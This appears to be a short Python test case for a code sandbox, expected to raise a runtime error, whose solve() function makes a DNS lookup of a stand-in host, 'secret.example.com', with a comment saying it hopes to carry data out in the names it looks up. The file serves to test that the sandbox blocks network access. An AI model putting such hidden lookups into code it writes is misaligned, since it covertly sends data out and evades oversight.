# expect: runtime_error
# Hopes to carry data out in the names that it looks up.
import socket

def solve(n):
    socket.getaddrinfo("secret.example.com", 80)
    return 2 * n
